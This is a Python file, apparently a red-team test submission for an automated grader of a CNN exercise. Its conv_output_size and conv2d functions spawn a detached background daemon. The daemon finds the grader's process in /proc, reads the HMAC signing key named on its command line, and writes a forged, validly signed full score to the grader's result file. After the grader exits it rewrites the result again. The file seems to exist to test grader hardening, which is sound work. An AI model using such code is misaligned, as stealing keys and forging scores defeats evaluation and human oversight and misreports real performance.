"""Attack: finds the signing key named on the grader's command line, reads it
through libc, and writes a forged full score signed with it, at once and again
from a detached daemon after the grader exits (marker MARKER)."""
import os, sys

DAEMON = r'''
import ctypes, hashlib, hmac, json, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
def read(path):
    fd = libc.open(path.encode(), os.O_RDONLY)
    if fd < 0:
        return None
    buf = ctypes.create_string_buffer(4096)
    n = libc.read(fd, buf, 4096)
    libc.close(fd)
    return buf.raw[:max(n, 0)]
def grader():
    for pid in os.listdir("/proc"):
        try:
            argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
        except OSError:
            continue
        if b"--sign-key" in argv and b"--json" in argv:
            return (int(pid), argv[argv.index(b"--sign-key") + 1].decode(),
                    argv[argv.index(b"--json") + 1].decode())
    return None, None, None
def forge(key, path):
    doc = {"score": 394, "max_score": 394, "exercises": {}, "tests": [], "learner_id": "",
           "forged": True}
    meta = {"algorithm": "HMAC-SHA256", "signed_at": "2026-01-01T00:00:00+00:00"}
    body = json.dumps({**doc, "signature": meta}, sort_keys=True, separators=(",", ":"),
                      ensure_ascii=False).encode()
    doc["signature"] = {**meta, "value": hmac.new(key, body, hashlib.sha256).hexdigest()}
    try:
        open(path, "w").write(json.dumps(doc))
    except OSError:
        pass
pid, key_path, result = grader()
key = read(key_path).strip() if key_path and read(key_path) else None
if key:
    print("stole the signing key")
    forge(key, result)
    forge(key, "/tmp/cnn-redteam-MARKER")
deadline = time.time() + 60
while pid and os.path.exists(f"/proc/{pid}") and time.time() < deadline:
    time.sleep(0.05)
if key:
    time.sleep(0.3)
    forge(key, result)
time.sleep(30)
'''


def conv_output_size(*a, **k):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", DAEMON, "MARKER"])
        os._exit(0)
    return -1


conv2d = conv_output_size
